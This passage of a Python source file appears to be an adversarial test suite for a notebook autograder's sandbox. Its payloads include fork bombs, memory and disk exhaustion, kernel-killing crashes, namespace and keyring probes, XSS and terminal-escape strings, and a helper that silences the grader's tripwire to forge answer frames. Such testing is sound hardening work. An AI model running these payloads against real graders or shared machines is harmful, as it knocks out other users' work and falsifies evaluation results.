if libc.shmget(4242, 0, 0) != -1 or libc.msgget(4242, 0) != -1: win()
if libc.syscall(250, 10, -3, b'user', b'hostile-note', 0) > 0: win()
"""),
    Attack("memory that no figure shows", "1.7 GB under a limit of 1.3: neither file nor process has it", """
import mmap
if ctypes.CDLL(None).shmget(0, 1 << 20, 0o1600) != -1: win()
wins(lambda: os.memfd_create('memory'))
wins(lambda: mmap.mmap(-1, 1 << 20))
wins(lambda: open('/dev/zero', 'r+b'))
"""),
    Attack("the last to go when memory runs out", "then a sibling goes, or the grader",
           "wins(lambda: open('/proc/self/oom_score_adj', 'w').write('0'))"),
    Attack("the kernel's keys", "they belong to the user, and siblings read them",
           "if ctypes.CDLL(None).syscall(248, b'user', b'hostile', b'x', 1, -4) > 0: win()"),
    Attack("sockets of other families", "each is a part of the kernel to attack", """
for family in (socket.AF_INET, socket.AF_INET6, socket.AF_NETLINK, socket.AF_PACKET, 38, 40):
    for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_STREAM, socket.SOCK_SEQPACKET):
        wins(lambda: socket.socket(family, kind))
"""),
    Attack("more of the machine", "the cores of the siblings, and a priority before theirs", """
wins(lambda: os.sched_setaffinity(0, range(os.cpu_count())))
wins(lambda: os.setpriority(os.PRIO_PROCESS, 0, 5))
wins(lambda: os.sched_setscheduler(0, os.SCHED_BATCH, os.sched_param(0)))
"""),
    Attack("namespaces by clone", "unshare is not the only way", """
number = {'x86_64': 56, 'aarch64': 220}[os.uname().machine]
child = ctypes.CDLL(None).syscall(number, 0x10000000 | 17, 0, 0, 0, 0)
if child == 0: os._exit(0)
if child > 0: win()
"""),
)]

def sending(entry: str, facts: str = "{}") -> str:
    """Code that answers every question with a frame made by hand, the tripwire being silenced."""
    return f"""
import inside.cells, inside.tripwire, json, struct
inside.tripwire.Tripwire.changed = lambda self: []
def crafted(observation, nonce):
    head = json.dumps({{'nonce': nonce, 'facts': {facts}, 'arrays': [{entry}]}}).encode()
    return struct.pack('<4sIQ', b'S&S1', len(head), 0) + head
inside.cells.frames.pack_observation = crafted
{ZEROS}"""


# What it makes the grader's own code raise, or write down, outside the walls.
OUTSIDE = [
    Attack("a shape that cannot be counted", "reshape raised ValueError in the grader, and the exercise's row was lost",
           sending("['output', 'float32', [0] + [8388608] * 5]"), costs_others=True, status="not_graded"),
    Attack("an array with a page for a name", "the name of a gradient is a role, and a role stands in sentences",
           sending("['grad:<script>`\\x1b[31m', 'float32', [0]]"), costs_others=True, status="not_graded"),
    Attack("a list of a hundred thousand facts", "all of them stand in one sentence",
           sending("", "{'output': {'type': 'tensor', 'shape': [1] * 99000}}"), costs_others=True, status="not_graded"),
    Attack("facts of other types", "a sentence that is made of them raises TypeError or KeyError",
           sending("", "{'output': 7, 'roles': [1], 'orders': 'x', 'alpha': None, 'unplaced': {}, 'problem': {'stage': 9}}"),
           costs_others=True, status="not_graded"),
    Attack("a class with a name of 3.5 million backquotes", "the notebook had 128 MB: each was a pair of code tags", """
AdditionModel = type('`' * 3_500_000, (), {})
"""),
    Attack("a model with an endless name", "the same, from the constructor", """
class Other: pass
Other.__name__ = Other.__qualname__ = '`' * 3_500_000
class AdditionModel(nn.Module):
    def __new__(cls): return Other()
"""),
    Attack("an error with an endless message", "the message stands in the sentence and beside it", """
class AdditionModel(nn.Module):
    def forward(self, x): raise type('`' * 100_000, (Exception,), {})('`\\u202e\\x1b[31m' * 1_000_000)
"""),
    Attack("half characters", "text that is no Unicode was no answer: the cell counted as dead", """
class AdditionModel(nn.Module):
    def forward(self, x): raise ValueError('\\ud800')
""", extra="print('\\ud800' * 10_000)"),
]

SURVIVAL = [
    Attack("an endless loop", "the batch stands still", "while True: pass", status="not_graded"),
    Attack("an endless loop that is deaf", "an interrupt is caught, and the batch stands still", """
import signal
signal.signal(signal.SIGALRM, signal.SIG_IGN)
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    try:
        while True: pass
    except BaseException: pass
""", status="not_graded"),
    Attack("an endless loop when asked", "the question is never answered", """
class AdditionModel(nn.Module):
    def forward(self, x):
        while True:
            try: time.sleep(1)
            except BaseException: pass
""", status="not_graded"),
    Attack("an endless loop when built", "the constructor never returns", """
class AdditionModel(nn.Module):
    def __init__(self):
        while True: pass
""", status="not_graded"),
    Attack("a long operator", "no Python runs in which an interrupt could come", """
import re
re.match(r'(a+)+$', 'a' * 40 + 'b')
""", status="not_graded"),
    Attack("leaving", "a dead kernel deletes the learner's folder, and the grade stays open", "os._exit(0)",
           status="not_graded"),
    Attack("leaving when asked", "the same, during a question", """
class AdditionModel(nn.Module):
    def forward(self, x): os._exit(0)
""", status="not_graded"),
    Attack("a crash", "a segmentation fault ends the kernel", "ctypes.string_at(0)", status="not_graded"),
    Attack("an abort", "so does abort", "os.abort()", status="not_graded"),
    Attack("another program", "the process becomes one that never answers", "os.execv('/bin/sleep', ['sleep', '60'])",
           status="not_graded"),
    Attack("standing still", "a stopped process is neither dead nor alive", """
import signal
pid = os.fork()
if pid == 0:
    time.sleep(0.1); os.kill(1, signal.SIGSTOP); os._exit(0)
os.kill(os.getpid(), signal.SIGSTOP)
""", walls=True),
    Attack("a crash later", "a thread ends the process in somebody else's exercise", """
import threading
threading.Timer(0.3, lambda: os._exit(0)).start()
""", costs_others=True),
    Attack("memory", "the machine runs out of memory", "x = [bytearray(1 << 30) for _ in range(64)]"),
    Attack("memory, by many", "each process within its limit, together far beyond", """
for _ in range(6):
    if os.fork() == 0:
        x = bytearray(os.urandom(1 << 20)) * 400
        time.sleep(60)
time.sleep(60)
""", status="not_graded"),
    Attack("forks without end", "no process can be started any more", """
while True:
    try: os.fork()
    except OSError: time.sleep(0.2)
""", status="not_graded", walls=True),
    Attack("spinning shells", "a sibling's right answer ran into its time limit", """
import subprocess
for _ in range(44):
    try: subprocess.Popen(['/bin/sh', '-c', 'while :; do :; done'])
    except OSError: break
time.sleep(60)
""", status="not_graded", walls=True),
    Attack("a fork that returns", "two processes answer one question", "os.fork()"),
    Attack("threads without end", "no thread can be started any more", """
import threading
try:
    while True: threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
except RuntimeError: pass
""", costs_others=True, walls=True),
    Attack("a daemon", "a process that outlives its submission", """
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(600)
    os._exit(0)
"""),
    Attack("a full disk", "the folder for temporary files is everybody's", """
try:
    with open('/tmp/full', 'wb') as file:
        while True: file.write(bytes(1 << 20))
except OSError: pass
""", walls=True),
    Attack("files without number", "inodes run out before bytes do", """
try:
    for number in range(1_000_000): open(f'/tmp/{number}', 'w').close()
except OSError: pass
""", walls=True),
    Attack("output without end", "a notebook of gigabytes, in memory and in the gradebook", """
for _ in range(3_000): print('x' * 10_000)
sys.stderr.write('y' * 10_000_000)
"""),
    Attack("output that acts", "escape sequences and direction marks rewrite the instructor's terminal",
           "print('\\x1b]0;owned\\x07\\x1b[2J\\u202e\\x00\\x9b31m<script>alert(1)</script>')\nraise ValueError('\\x1b[31m')"),
    Attack("recursion", "the interpreter's stack overflows", """
sys.setrecursionlimit(10**9)
def deeper(): return deeper()
deeper()
"""),
    Attack("no output", "prints of the grader itself fail", "sys.stdout = sys.stderr = None"),
    Attack("closed output", "the same, closed", "sys.stdout.close(); sys.stderr.close()"),
    Attack("no modules", "the next import fails", "sys.modules.clear()", costs_others=True),
    Attack("no builtins", "not even len is left", """
import builtins
for name in list(vars(builtins)):
    if name not in ('__build_class__',): delattr(builtins, name)
""", costs_others=True),
    Attack("errors that raise", "showing the error is an error", """
class Bad(Exception):
    def __str__(self): raise RuntimeError
    __repr__ = __str__
raise Bad
"""),
    Attack("a class whose name is a page", "the name of an error is shown as it is",
           "raise type('<img src=x onerror=alert(1)>' * 1000, (Exception,), {})('<script>' * 10_000)"),
]

EXTRAS = [
    Attack("a cell before that ends everything", "the exercise after it was never reached", extra="import os\nos._exit(1)"),
    Attack("a cell before that never ends", "nothing after it is graded", extra="while True: pass"),
    Attack("a cell before that exits", "SystemExit ends the run", extra="import sys\nsys.exit()\n"),
    Attack("a cell before that is no Python", "the notebook does not parse", extra="this is (not Python"),
]

ATTACKS = [*VERDICT, *SPEAKING, *WIRE, *OUTSIDE, *PLACES, *SURVIVAL, *EXTRAS]
